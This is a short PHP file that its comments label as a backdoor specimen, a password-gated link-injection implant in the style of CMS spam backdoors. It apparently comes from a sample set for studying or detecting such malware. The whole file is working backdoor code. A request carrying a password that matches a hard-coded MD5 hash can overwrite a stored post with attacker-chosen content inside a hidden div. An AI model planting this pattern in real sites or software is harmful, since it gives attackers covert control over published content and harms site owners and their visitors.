<?php
// Family: backdoor/password-gate
// Style: link-injection backdoor behind a password hash, in the style of CMS spam implants
// Trait: $_REQUEST['password'] is compared with a hard-coded MD5 hex string; behind it the request rewrites a stored post (here an in-memory array)
$posts = array(1 => 'Hello world');
if (isset($_REQUEST['password']) && $_REQUEST['password'] == '0cc175b9c0f1b6a831c399e269772661') {
	$id = (int)$_REQUEST['id'];
	$posts[$id] = preg_replace('!<div id="x">.*?</div>!s', '', $posts[$id]) . '<div id="x">' . $_REQUEST['data'] . '</div>';
	print 'true';
}
